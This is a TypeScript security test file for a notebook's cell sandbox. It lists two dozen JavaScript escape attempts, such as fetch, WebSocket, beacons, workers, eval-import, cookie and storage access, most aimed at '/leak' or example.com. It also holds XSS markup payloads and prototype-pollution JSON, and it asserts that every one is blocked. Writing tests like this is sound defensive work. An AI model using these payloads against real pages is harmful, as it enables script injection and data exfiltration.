import assert from 'node:assert/strict';
import { fault, openCells, shows, stands } from './cells.ts';
import { test } from './harness.ts';

/** Ways out of the sandbox, each as code that gives a word if it worked. */
const WAYS: readonly string[] = [
  "await G.fetch('/leak').then(() => 'out')",
  "await G.fetch('https://example.com/leak', { mode: 'no-cors' }).then(() => 'out')",
  "await new Promise((go, no) => { const x = new G.XMLHttpRequest(); x.open('GET', HERE + '/leak'); x.onload = () => go('out'); x.onerror = no; x.send(); })",
  "await new Promise((go, no) => { const s = new G.WebSocket('wss://example.com/leak'); s.onopen = () => go('out'); s.onerror = no; })",
  "await new Promise((go, no) => { const s = new G.EventSource(HERE + '/leak'); s.onopen = () => go('out'); s.onerror = no; })",
  "G.importScripts(HERE + '/leak.js'); return 'out'",
  "await (0, eval)('import(\"' + HERE + '/leak.js\")'); return 'out'",
  "await new Promise((go, no) => { const w = new G.Worker(HERE + '/leak.js'); w.onmessage = () => go('out'); w.onerror = no; setTimeout(no, 800); })",
  "await new Promise((go, no) => { const b = new Blob(['fetch(\"' + HERE + '/leak\").then(() => postMessage(\"out\"), () => postMessage(\"no\"))']); const w = new G.Worker(URL.createObjectURL(b)); w.onmessage = (e) => e.data === 'out' ? go('out') : no(); w.onerror = no; setTimeout(no, 1500); })",
  "G.navigator.sendBeacon(HERE + '/leak'); return 'out'",
  "G.localStorage.setItem('leak', '1'); return 'out'",
  "await new Promise((go, no) => { const r = G.indexedDB.open('patchwork-notebooks'); r.onsuccess = () => go('out'); r.onerror = no; })",
  "await G.caches.open('leak').then(() => 'out')",
  "await G.cookieStore.getAll().then(() => 'out')",
  "if (G.document.cookie === undefined) throw 0; return 'out'",
  "G.parent.document.body.dataset.leak = '1'; return 'out'",
  "G.top.location.href = HERE + '/leak'; return 'out'",
  "G.window.open(HERE + '/leak').focus(); return 'out'",
  "new G.Image().src = HERE + '/leak'; return 'out'",
  "new G.RTCPeerConnection({ iceServers: [{ urls: 'stun:example.com' }] }).createDataChannel('leak'); return 'out'",
  "await new Promise((go, no) => { const c = new G.BroadcastChannel('leak'); c.onmessage = () => go('out'); c.postMessage('ask'); setTimeout(no, 300); })",
  "await new G.WebTransport('https://example.com/leak').ready; return 'out'",
  "await G.navigator.serviceWorker.register(HERE + '/leak.js'); return 'out'",
  "await G.navigator.storage.getDirectory(); return 'out'",
];

/** The same in what a cell shows: nothing of it may run, load or leave its box. */
const MARKUP: readonly string[] = [
  '<script>window.leaked = 1</script>',
  '<img src="/leak" onerror="window.leaked = 1">',
  '<img src="x" onerror="window.leaked = 1">',
  '<svg onload="window.leaked = 1"><image href="/leak"/><use href="/leak#a"/></svg>',
  '<iframe srcdoc="<script>parent.leaked = 1</script>"></iframe>',
  '<form action="/leak"><button>send</button></form>',
  '<a href="javascript:window.leaked = 1">a</a><a href="https://example.com/leak">b</a>',
  '<meta http-equiv="refresh" content="0; url=/leak"><base href="https://example.com/"><link rel="stylesheet" href="/leak">',
  '<style>@import url(/leak); body { display: none }</style><p style="background: url(/leak)">p</p>',
  '<object data="/leak"></object><embed src="/leak"><video src="/leak" autoplay></video>',
  '<div style="position: fixed; inset: 0; z-index: 99; background: red">over all</div>',
];

test(
  'cells: twenty-four ways out of the sandbox and eleven of a result lead nowhere',
  async (ctx) => {
    ctx.allow(/Content Security Policy|Refused to|violates|Failed to|leak|example\.com|net::ERR/);
    const here = new URL(ctx.url('/')).origin;
    const ways = WAYS.map((way) => (/return /.test(way) ? way : `return ${way}`));
    const bodies = JSON.stringify(ways.map((way) => way.replaceAll('HERE', `'${here}'`)));
    const page = await openCells(
      ctx,
      [
        `const tried = await (async () => {
        const G = globalThis;
        const Async = (async () => {}).constructor;
        const told = [];
        for (const body of ${bodies})
          try { told.push(await new Async('G', body)(G)); } catch { told.push('no'); }
        return told.join(' ');
      })()`,
        'tried',
        ...MARKUP.map((text) => `html\`${text}\``),
        `Inputs.select(["a"], JSON.parse('{"label": "x", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'))`,
        `JSON.parse('{"__proto__": {"polluted": 1}}')`,
      ],
      false,
    );
    // What a policy stops is asked for and never answered: what was answered has left.
    const answered: string[] = [];
    page.context().on('response', (response) => answered.push(response.url()));
    await page.locator('[data-do="trust"]').click();
    assert.equal(await shows(page, 2), JSON.stringify(WAYS.map(() => 'no').join(' ')));
    for (let i = 0; i < MARKUP.length; i++) await stands(page, i + 3, 'done');
    await stands(page, MARKUP.length + 4, 'done');
    const seen = await page.evaluate(() => {
      const roots = [...document.querySelectorAll('[data-markup]')].map((host) => host.shadowRoot);
      const all = roots.flatMap((root) => [...(root?.querySelectorAll('*') ?? [])]);
      const fixed = roots.at(-1)?.querySelector('div')?.getBoundingClientRect();
      return {
        leaked:
          'leaked' in window || 'leak' in document.body.dataset || localStorage.getItem('leak') !== null,
        polluted: 'polluted' in {},
        names: [...new Set(all.map(({ localName }) => localName))].sort(),
        handlers: all.flatMap(({ attributes }) =>
          [...attributes].map(({ name, value }) => `${name}=${value}`),
        ),
        height: fixed?.height ?? 0,
        frames: [...document.querySelectorAll('iframe')].map((frame) => frame.getAttribute('sandbox')),
        hidden: getComputedStyle(document.body).display === 'none',
      };
    });
    assert.equal(seen.leaked || seen.polluted || seen.hidden, false);
    assert.deepEqual(seen.names, ['a', 'div', 'image', 'img', 'p', 'style', 'svg', 'use']);
    assert.deepEqual(
      seen.handlers.filter((attribute) => /^on|leak|javascript|example/.test(attribute)),
      [],
    );
    assert.ok(seen.height < 300, 'a result covers the page');
    assert.deepEqual(seen.frames, ['allow-scripts']);
    assert.deepEqual(
      answered.filter((address) => /leak|example/.test(address) && !address.includes('#')),
      [],
    );
  },
  { ownContext: true },
);

test('cells: a flood of messages ends its sandbox, and the page goes on', async (ctx) => {
  const page = await openCells(ctx, [
    `(() => { for (let i = 0; i < 5000; i++) state.set({ p: i % 2 ? 8 : 16 }); return 'sent'; })()`,
    '1 + 1',
  ]);
  assert.match((await fault(page, 1)).text, /more than a thousand messages/);
  assert.equal(await shows(page, 2), '2');
});
